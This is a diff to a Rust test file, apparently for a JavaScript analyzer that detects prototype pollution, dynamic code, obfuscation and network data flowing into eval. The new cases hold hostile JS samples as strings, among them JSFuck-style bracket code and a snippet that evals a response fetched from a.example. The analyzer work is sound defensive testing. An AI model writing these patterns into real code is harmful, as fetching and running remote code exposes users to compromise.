@@ -225,6 +225,34 @@ const CASES: &[Case] = &[
         "function merge(a, b) { for (const k in b) { if (typeof b[k] === 'object') merge(a[k], b[k]); else a[k] = b[k] } return a } module.exports = merge",
     ),
     case(
+        "a path of names from outside is stepped down and written",
+        PrototypeWrite,
+        "js:Object.prototype",
+        "",
+        "module.exports = function set(o, path, value) { const keys = path.split('.'); let at = o; while (keys.length > 1) { at = at[keys.shift()] } at[keys[0]] = value }",
+    ),
+    case(
+        "a timer of whatever becomes text",
+        DynamicCode,
+        "js:setInterval",
+        "",
+        "const again = setInterval; again(String(process.argv[2]), 1000)",
+    ),
+    case(
+        "a text whose letters come from values",
+        DynamicCode,
+        "js:Function",
+        "f:u]",
+        "[]['flat']['constructor']((![]+[])[+[]]+(RegExp()+[])[3]+([][[]]+[])[+[]]+({}+[])[14])()",
+    ),
+    case(
+        "only brackets",
+        Obfuscation,
+        "js:source",
+        "",
+        "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]];",
+    ),
+    case(
         "a built-in function is replaced",
         BuiltinWrite,
         "node:fs.readFile",
@@ -279,6 +307,7 @@ fn what_a_server_answers_is_followed_into_eval() {
         "require('request')('http://a.example', (e, r, body) => { eval(body) })",
         "const x = new XMLHttpRequest(); x.open('GET', 'http://a.example'); x.onload = () => eval(x.responseText); x.send()",
         "require('net').connect(80, 'a.example').on('data', d => eval(d.toString()))",
+        "const axios = require('axios'); (async () => { try { await axios.get('https://a.example') } catch (e) { eval(e.response.data) } })()",
     ] {
         assert!(flows(&trace_one(source), Source::Network, DynamicCode), "{source}");
     }
